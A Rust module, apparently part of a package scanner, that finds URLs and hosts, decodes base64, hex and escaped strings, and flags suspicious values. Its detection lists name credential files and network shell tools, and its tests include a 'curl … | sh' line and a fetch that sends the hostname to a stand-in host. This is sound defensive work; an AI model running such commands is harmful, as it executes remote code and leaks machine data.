//! String knowledge shared by the front ends (JS, Python): URL and host extraction, decoding
//! helpers, and whether a decoded value is worth reporting.

use crate::{geo, vendors};
use regex::Regex;
use std::sync::LazyLock;

static URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?-u:\b)(?:https?|wss?)://(?:[a-z0-9._~%+\-]+(?::[a-z0-9._~%+\-]*)?@)?([a-z0-9](?:[a-z0-9\-]{0,62}\.)*[a-z0-9\-]{1,63}|\[[0-9a-f:]+\])(?::[0-9]{1,5})?(?:[/?#][^\s'\x22<>`]*)?")
        .expect("valid regex")
});
static HOST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i-u)^(?:[a-z0-9](?:[a-z0-9\-]{0,62})\.)+[a-z]{2,24}$|^(?:[0-9]{1,3}\.){3}[0-9]{1,3}$",
    )
    .expect("valid regex")
});

/// URLs in a string, as (url, host) pairs.
pub fn urls(s: &str) -> Vec<(String, String)> {
    if memchr::memmem::find(s.as_bytes(), b"://").is_none() {
        return Vec::new();
    }
    URL.captures_iter(s)
        .take(64)
        .map(|c| (c[0].to_string(), c[1].to_ascii_lowercase()))
        .collect()
}

/// Whether a path's shape names one file well enough to match other uses by it: three
/// characters or more that are not wildcards or separators (`/tmp/u.sh`, `*/payload`; not
/// `*/x` or `*`).
pub fn names_one_file(shape: &str) -> bool {
    shape
        .chars()
        .filter(|c| !matches!(c, '*' | '/' | '\\' | '.' | '~' | ' '))
        .count()
        >= 3
}

/// The domain a DNS name built from data ends in (`*.*.lib.x.top` → `lib.x.top`): data in the
/// name with a constant domain after it. A name that is only data (`gethostbyname(host)`)
/// asks for the machine's own address, not an attacker's server.
pub fn dns_domain(shape: &str) -> Option<String> {
    let (_, suffix) = shape.rsplit_once('*')?;
    if !suffix.starts_with('.') {
        return None;
    }
    // The longest run of valid labels at the end (`v2_e.x.top` → `x.top`).
    let mut domain = suffix.trim_matches('.').to_ascii_lowercase();
    while !is_host(&domain) {
        domain = domain.split_once('.')?.1.to_string();
    }
    Some(domain)
}

/// Whether the whole string is a host name or IPv4 address.
pub fn is_host(s: &str) -> bool {
    s.len() <= 253 && s.contains('.') && HOST.is_match(s)
}

/// The host a decoded string is by itself (`collect.example.com`, an IPv4 address), or `None`: written in
/// lower case (hosts in code are; `auth.error.credentialUnreadable` is a message key) under a
/// top-level domain in use, so dotted keys (`commands.builtin.about.description`) are not
/// hosts.
pub fn decoded_host(text: &str) -> Option<String> {
    let t = text.trim();
    if t.parse::<std::net::Ipv4Addr>().is_ok() {
        return Some(t.to_string());
    }
    if t.bytes().any(|b| b.is_ascii_uppercase()) || !is_host(t) {
        return None;
    }
    let tld = t.trim_end_matches('.').rsplit('.').next()?;
    crate::geo::is_known_tld(tld).then(|| t.to_string())
}

/// The endpoints a decoded string names, as (host, url): a URL or a host standing alone (or
/// in code). A message that mentions a URL (`"see https://git-scm.com/download/win."`) is
/// documentation, hidden or not.
pub fn decoded_endpoints(text: &str) -> Vec<(String, Option<String>)> {
    let t = text.trim();
    if is_prose(t) {
        return Vec::new();
    }
    let mut out: Vec<(String, Option<String>)> = urls(t)
        .into_iter()
        .map(|(url, host)| (host, Some(url)))
        .collect();
    out.extend(decoded_host(t).map(|h| (h, None)));
    // A hidden `http://localhost:3000` is a service on this machine, no destination.
    out.retain(|(h, _)| !is_loopback(h));
    out
}

/// This machine: `localhost`, `*.localhost`, `127.0.0.0/8`, `::1`, `0.0.0.0` (a port after
/// the host is allowed). What is sent there does not leave the machine.
pub fn is_loopback(host: &str) -> bool {
    let h = host.trim_end_matches('.').to_ascii_lowercase();
    let h = h
        .rsplit_once(':')
        .filter(|(_, p)| p.bytes().all(|b| b.is_ascii_digit()))
        .map_or(h.as_str(), |(h, _)| h);
    h == "localhost"
        || h.ends_with(".localhost")
        || h.starts_with("127.")
        || matches!(h, "::1" | "[::1]" | "0.0.0.0")
}

/// How often `name` appears in `src` as a whole word (not inside a longer identifier): how
/// the front ends and the scan tell a function used only where they looked from one named
/// elsewhere too.
pub fn word_mentions(src: &str, name: &str) -> usize {
    let word = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_');
    src.match_indices(name)
        .filter(|(i, _)| {
            !word(src[..*i].chars().next_back()) && !word(src[i + name.len()..].chars().next())
        })
        .count()
}

/// This machine or the platform it runs on: loopback, and the addresses reachable only from
/// inside an instance or cluster (cloud instance metadata, the cluster's API server). What is
/// sent there reaches the machine's own operator, no one the package chose.
pub fn stays_on_platform(host: &str) -> bool {
    is_loopback(host) || vendors::is_cloud_metadata_host(host)
}

/// Words of a sentence: three or more, the first a plain word that is not a program (a
/// command line, `curl https://… | sh`, is not prose), and nothing that reads as code.
fn is_prose(t: &str) -> bool {
    let mut words = t.split_whitespace();
    let Some(first) = words.next() else {
        return false;
    };
    let shell = matches!(
        first,
        "sh" | "bash"
            | "zsh"
            | "dash"
            | "cmd"
            | "powershell"
            | "pwsh"
            | "node"
            | "python"
            | "python3"
            | "perl"
            | "ruby"
            | "exec"
            | "sudo"
            | "env"
            | "nohup"
    );
    words.count() >= 2
        && first
            .chars()
            .all(|c| c.is_alphabetic() || matches!(c, ',' | ':' | '\''))
        && !shell
        && !is_network_tool(first)
        && !t.contains(['(', '=', ';', '{', '|', '$'])
}

/// A command line (or its program) that only changes a file's mode: `chmod`, alone, not
/// followed by another command (`chmod +x p && p` runs `p`).
pub fn is_chmod_command(line: &str) -> bool {
    let program = line.split_whitespace().next().unwrap_or_default();
    program.rsplit('/').next() == Some("chmod") && !line.contains(['&', ';', '|', '\n'])
}

/// Hosts that deserve an endpoint fact even as a bare string: catalogued telemetry and
/// geo-IP services, and cloud metadata addresses. (A vendor's product name as the first label
/// of another domain counts in URLs only: `sentry.sdk.name` is an attribute key.)
pub fn is_catalogued_host(host: &str) -> bool {
    vendors::is_catalogued_telemetry_host(host)
        || vendors::geoip_service(host).is_some()
        || vendors::is_cloud_metadata_host(host)
}

/// Endpoints a string literal written in code names: every URL in it, and the whole string
/// when it is a catalogued host (telemetry, geo-IP, cloud metadata), as (host, url). Long
/// strings are text or data blobs: their URLs are documentation, not endpoints.
pub fn literal_endpoints(value: &str) -> Vec<(String, Option<String>)> {
    if value.len() > 4096 {
        return Vec::new();
    }
    let mut out: Vec<(String, Option<String>)> = urls(value)
        .into_iter()
        .map(|(url, host)| (host, Some(url)))
        .collect();
    // The host check is case-insensitive: lowercase only what is a host.
    if is_host(value) {
        let lower = value.to_ascii_lowercase();
        if is_catalogued_host(&lower) {
            out.push((lower, None));
        }
    }
    out
}

/// Whether a string literal is a message that mentions addresses (a log line, a help text, a
/// docs link in prose: "events go to https://… (see the docs)") rather than an address or
/// code: three or more words of letters besides its URLs and none of code's marks. Looser than
/// [`is_prose`], which judges decoded strings: a sentence's parentheses and semicolons pass.
pub fn is_message(text: &str) -> bool {
    const CODE: &[&str] = &[
        "=>", "{", "}", "==", "('", "(\"", "${", "+ ", "| ", "();", "&&",
    ];
    if !text.contains(' ') || CODE.iter().any(|c| text.contains(c)) {
        return false;
    }
    let words = text
        .split_whitespace()
        .filter(|w| !w.contains("://") && !w.contains('/'))
        .map(|w| w.trim_matches(|c: char| !c.is_alphabetic()))
        .filter(|w| w.len() >= 2 && w.chars().all(char::is_alphabetic))
        .count();
    words >= 3
}

/// A one-line excerpt of `src[start..end]` of at most ~100 characters, whitespace collapsed,
/// for the steps of a flow.
pub fn snippet(src: &str, start: u32, end: u32) -> String {
    let (s, e) = (start as usize, (end as usize).min(src.len()));
    let mut e2 = e.min(s + 100);
    while e2 < src.len() && !src.is_char_boundary(e2) {
        e2 += 1;
    }
    let mut s2 = s.min(src.len());
    while s2 > 0 && !src.is_char_boundary(s2) {
        s2 -= 1;
    }
    let mut out: String = src
        .get(s2..e2)
        .unwrap_or("")
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    if e2 < e {
        out.push('…');
    }
    out
}

/// The host of a URL shape (`https://t.example.com/?h=*`, `*` for parts not known
/// statically) when the host part is wholly constant: followed by a path, port, query or the
/// end, with no unknown part inside it.
pub fn constant_host(shape: &str) -> Option<String> {
    let rest = ["https://", "http://", "wss://", "ws://"]
        .iter()
        .find_map(|p| shape.strip_prefix(p))?;
    // Past the user information of a basic-auth URL (`https://user:*@host/`).
    let authority = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let rest = match rest[..authority].rfind('@') {
        Some(at) => &rest[at + 1..],
        None => rest,
    };
    let end = rest.find(['/', ':', '?', '#', '*']).unwrap_or(rest.len());
    if rest[end..].starts_with('*') {
        return None;
    }
    let host = rest[..end].to_ascii_lowercase();
    is_host(&host).then_some(host)
}

pub fn decode_base64(s: &str) -> Option<Vec<u8>> {
    use base64::Engine;
    let cleaned: String = s.chars().filter(|c| !c.is_ascii_whitespace()).collect();
    let cfg = base64::engine::GeneralPurposeConfig::new()
        .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true);
    let std = base64::engine::GeneralPurpose::new(&base64::alphabet::STANDARD, cfg);
    let url = base64::engine::GeneralPurpose::new(&base64::alphabet::URL_SAFE, cfg);
    std.decode(cleaned.as_bytes())
        .or_else(|_| url.decode(cleaned.as_bytes()))
        .ok()
}

pub fn decode_hex(s: &str) -> Option<Vec<u8>> {
    let s = s.trim();
    if !s.len().is_multiple_of(2) {
        return None;
    }
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(s.get(i..i + 2)?, 16).ok())
        .collect()
}

pub fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' && i + 2 < b.len() {
            if let Ok(v) = u8::from_str_radix(&s[i + 1..i + 3], 16) {
                out.push(v);
                i += 3;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Text that reads as text: decoded bytes that are mostly printable.
pub fn printable(bytes: &[u8]) -> Option<String> {
    let s = std::str::from_utf8(bytes).ok()?;
    let bad = s
        .chars()
        .filter(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
        .count();
    (bad * 10 <= s.chars().count()).then(|| s.to_string())
}

const SENSITIVE_WORDS: &[&str] = &[
    "child_process",
    "hostname",
    "userinfo",
    "homedir",
    "networkinterfaces",
    "country",
    "eval",
    "function",
    "exec",
    "spawn",
    "process.env",
    "/.ssh",
    ".npmrc",
    "/etc/passwd",
    "machine-id",
    "require",
    "http",
    "https",
    "dns",
    "net",
    "fs",
    "os",
    "writefile",
    "unlink",
    "readdir",
    "timezone",
    "locale",
    "language",
    "curl",
    "wget",
    "powershell",
    "/bin/sh",
    "bash",
    "token",
    "password",
    "webhook",
    "discord",
    "telegram",
];

/// Whether a program (`curl`, `/usr/bin/ping`) talks to the network: what a command that
/// runs it does, for the shell's region effects and the Python front end's network probes.
pub fn is_network_tool(program: &str) -> bool {
    matches!(
        program.rsplit('/').next().unwrap_or(program),
        "curl"
            | "wget"
            | "nc"
            | "ncat"
            | "netcat"
            | "ssh"
            | "scp"
            | "rsync"
            | "ftp"
            | "ping"
            | "nslookup"
            | "dig"
            | "host"
            | "socat"
            | "telnet"
    )
}

/// Whether a value that was hidden by an encoding is worth a finding: it names a place to
/// send data, a sensitive API or file, a region, or is JavaScript code.
pub fn interesting_decoded(s: &str) -> bool {
    let t = s.trim();
    // Binary data (a decode table, an image, a wasm module) is not a hidden string, even where
    // a word happens to sit among its bytes.
    if is_binary(t) {
        return false;
    }
    if names_something(t) {
        return true;
    }
    // Code: a call or a property chain.
    t.len() > 12
        && t.len() <= 100_000
        && (t.contains("=>") || t.contains("function") || t.contains("();"))
}

/// More than one character in twenty is a control character other than white space.
fn is_binary(t: &str) -> bool {
    let mut total = 0usize;
    let mut control = 0usize;
    for c in t.chars().take(4096) {
        total += 1;
        if c.is_control() && !matches!(c, '\n' | '\r' | '\t') {
            control += 1;
        }
    }
    control * 20 > total
}

/// The language-neutral part of [`interesting_decoded`]: the decoded text names a place to send
/// data, a sensitive API or file, or a region.
pub fn names_something(s: &str) -> bool {
    let t = s.trim();
    if t.len() < 2 || t.len() > 100_000 {
        return false;
    }
    if !urls(t).is_empty() || is_host(t) {
        return true;
    }
    let lower = t.to_ascii_lowercase();
    if SENSITIVE_WORDS
        .iter()
        .any(|w| lower == *w || (w.len() > 4 && lower.contains(w)))
    {
        return true;
    }
    geo::country_of_name(&lower).is_some() || geo::country_of_time_zone(t).is_some()
}

/// How a string literal's source text hides its characters, if it does: `"\x68\x74\x74\x70"`
/// ("hex escapes"), `"\150\164"` ("octal escapes"), `"\u0068"` ("unicode escapes"). `raw` is
/// the text between the quotes. Only escapes of printable ASCII count (a non-ASCII letter or a
/// control character is escaped by every minifier), and they must write at least 4 characters
/// and half of the string: `"a\x20b"` is formatting, not hiding.
pub fn escape_technique(raw: &str) -> Option<&'static str> {
    let b = raw.as_bytes();
    let (mut hex, mut octal, mut unicode, mut chars) = (0usize, 0usize, 0usize, 0usize);
    let mut i = 0;
    while i < b.len() {
        chars += 1;
        if b[i] != b'\\' || i + 1 >= b.len() {
            i += 1;
            continue;
        }
        let rest = &raw[i + 1..];
        let (len, code, kind) = match b[i + 1] {
            b'x' => (
                3,
                u32::from_str_radix(rest.get(1..3).unwrap_or(""), 16).ok(),
                0,
            ),
            b'u' if rest.as_bytes().get(1) == Some(&b'{') => match rest.find('}') {
                Some(end) => (end + 1, u32::from_str_radix(&rest[2..end], 16).ok(), 2),
                None => (1, None, 2),
            },
            b'u' => (
                5,
                u32::from_str_radix(rest.get(1..5).unwrap_or(""), 16).ok(),
                2,
            ),
            b'0'..=b'7' => {
                let n = rest
                    .bytes()
                    .take(3)
                    .take_while(|c| (b'0'..=b'7').contains(c))
                    .count();
                (n, u32::from_str_radix(&rest[..n], 8).ok(), 1)
            }
            _ => (1, None, 0),
        };
        if code.is_some_and(|c| (0x20..0x7f).contains(&c) && !matches!(c, 0x22 | 0x27 | 0x5c)) {
            match kind {
                0 => hex += 1,
                1 => octal += 1,
                _ => unicode += 1,
            }
        }
        i += 1 + len.max(1);
    }
    let escaped = hex + octal + unicode;
    if escaped < 4 || escaped * 2 < chars {
        return None;
    }
    Some(if octal >= hex && octal >= unicode {
        "octal escapes"
    } else if hex >= unicode {
        "hex escapes"
    } else {
        "unicode escapes"
    })
}

/// A key, member or method name that names a place (`cwd`, `homeDir`, `workspace_root`,
/// `getSettingsFilePath`, `env`, a path's `parent` or `name`): its value may be the place
/// itself. The last camel-case or snake-case word decides, in any case. Everything else read
/// out of a container by name (`ctx.apiURL`, `store.get("url")`) is not where the container
/// was opened ([`telltale_facts::Kinds::PLACES`]).
pub fn names_a_place(name: &str) -> bool {
    let last = name
        .rfind(|c: char| c.is_ascii_uppercase() || matches!(c, '_' | '-' | '.'))
        .map_or(name, |i| &name[i..])
        .trim_start_matches(['_', '-', '.']);
    [
        "cwd",
        "pwd",
        "dir",
        "dirs",
        "directory",
        "directories",
        "homedir",
        "home",
        "root",
        "env",
        "environ",
        "environment",
        "path",
        "paths",
        "pathname",
        "folder",
        "folders",
        "location",
        "file",
        "files",
        "filename",
        "workspace",
        "project",
        "repo",
        "repository",
    ]
    .iter()
    .any(|w| last.eq_ignore_ascii_case(w))
        // A path's own parts (pathlib's attributes), as whole names only: `p.name` is a
        // folder's name, `ctx.ideName` is not.
        || ["name", "stem", "parent", "parents", "parts", "anchor", "suffix"]
            .contains(&name)
}

/// `NPM_TOKEN`, `AMP_URL`: a name written the way environment variables are (upper case,
/// digits and `_`, at least 4 characters).
pub fn is_env_name(n: &str) -> bool {
    n.len() >= 4
        && n.bytes().any(|b| b.is_ascii_uppercase())
        && n.bytes()
            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_message_that_mentions_an_address_is_one() {
        use super::is_message as is_prose;
        assert!(is_prose(
            "Usage statistics go to https://api.mixpanel.com/track unless DO_NOT_TRACK is set."
        ));
        assert!(is_prose("see https://docs.sentry.io/ for crash reports"));
        assert!(is_prose(
            "show where you are (looked up at https://ipinfo.io/json); off with --no-geo"
        ));
        assert!(!is_prose("https://api.mixpanel.com/track"));
        assert!(!is_prose("POST https://api.mixpanel.com/track"));
        assert!(!is_prose(
            "fetch('https://x.top/c?d=' + require('os').hostname()); console.log(1)"
        ));
        assert!(!is_prose("curl -s https://x.top/i.sh | sh"));
    }

    #[test]
    fn hidden_loopback_addresses_are_no_destinations() {
        assert!(decoded_endpoints("http://localhost:3000/api").is_empty());
        assert!(decoded_endpoints("http://127.0.0.1:8080/x").is_empty());
        assert_eq!(decoded_endpoints("http://10.0.0.5/x").len(), 1);
        assert_eq!(decoded_endpoints("https://c6.x.top/a").len(), 1);
    }

    #[test]
    fn places_are_named_by_their_last_word() {
        for place in [
            "cwd",
            "homeDir",
            "workspace_root",
            "getSettingsFilePath",
            "env",
            "name",
        ] {
            assert!(names_a_place(place), "{place}");
        }
        for part in [
            "apiURL",
            "ideName",
            "settings",
            "getAuthHeaders",
            "api_url",
            "token",
        ] {
            assert!(!names_a_place(part), "{part}");
        }
    }

    #[test]
    fn dotted_attribute_keys_are_not_hosts() {
        for key in ["sentry.sdk.name", "sentry.user.id", "posthog.user.email"] {
            assert!(literal_endpoints(key).is_empty(), "{key}");
        }
        assert_eq!(literal_endpoints("o1.ingest.us.sentry.io").len(), 1);
        assert_eq!(
            literal_endpoints("https://sentry.corp.example.com/api/1/envelope/").len(),
            1
        );
    }

    #[test]
    fn escapes_that_hide_printable_text() {
        assert_eq!(
            escape_technique(r"\x68\x74\x74\x70\x73"),
            Some("hex escapes")
        );
        assert_eq!(
            escape_technique(r"\150\164\164\160\163\72"),
            Some("octal escapes")
        );
        assert_eq!(
            escape_technique(r"\u0068\u0074\u0074\u0070"),
            Some("unicode escapes")
        );
        assert_eq!(
            escape_technique(r"\u{68}\u{74}\u{74}\u{70}"),
            Some("unicode escapes")
        );
        // Formatting, non-ASCII and control characters are not hiding.
        assert_eq!(escape_technique(r"Hello\x20world, see the docs"), None);
        assert_eq!(
            escape_technique(r"caf\u00e9 na\u00efve \u00e0 \u00e8"),
            None
        );
        assert_eq!(escape_technique(r"\x00\x01\x02\x03\x04"), None);
        assert_eq!(escape_technique(r"\n\t\n\t\\\'"), None);
        assert_eq!(escape_technique(r"\x68\x74\x74"), None);
        // Malformed escapes end cleanly.
        assert_eq!(escape_technique(r"\x6\u12\u{zz\"), None);
    }

    use super::*;

    #[test]
    fn binary_data_is_no_hidden_string() {
        // The `entities` package's HTML decode trie, base64 in the bundle: entity names among
        // table bytes.
        let trie = "A\u{1d}<\0\u{b9}\0\u{2}\u{1}\u{fa}\u{1}\u{8b}\u{3}5\u{4}v\u{4}EMabcfglmnoprstuT\0Z\0^\0e\0i\0s\0w\0~\0https://example.com\0";
        assert!(!interesting_decoded(trie));
        assert!(interesting_decoded("https://example.com/collect\n"));
    }

    #[test]
    fn finds_urls_and_hosts() {
        let u = urls("go to https://api.ipgeolocation.io/ipgeo?apiKey=x now");
        assert_eq!(u[0].1, "api.ipgeolocation.io");
        assert!(is_host("api.mixpanel.com"));
        assert!(is_host("23.94.46.191"));
        assert!(!is_host("a b.com"));
        // A DSN's key is user info, not the host.
        let dsn = urls("https://e531a1d9ec1d@o1158394.ingest.us.sentry.io/4508259541909504");
        assert_eq!(dsn[0].1, "o1158394.ingest.us.sentry.io");
    }

    #[test]
    fn constant_hosts_and_snippets() {
        assert_eq!(
            constant_host("https://t.example.com/?h=*").as_deref(),
            Some("t.example.com")
        );
        assert_eq!(constant_host("https://*.example.com/"), None);
        assert_eq!(snippet("a  =\n  b", 0, 8), "a = b");
    }

    #[test]
    fn decodes() {
        assert_eq!(decode_base64("cnVzc2lh").unwrap(), b"russia");
        assert_eq!(
            decode_base64("aHR0cHM6Ly9pZmNvbmZpZy5jby9qc29u\n").unwrap(),
            b"https://ifconfig.co/json"
        );
        assert_eq!(decode_hex("6f73").unwrap(), b"os");
        assert_eq!(percent_decode("a%20b%zz"), "a b%zz");
    }

    #[test]
    fn interesting_values() {
        assert!(interesting_decoded("russia"));
        assert!(interesting_decoded("https://x.example/p"));
        assert!(interesting_decoded("country_name"));
        assert!(!interesting_decoded("./"));
        assert!(!interesting_decoded("hello world"));
    }
}
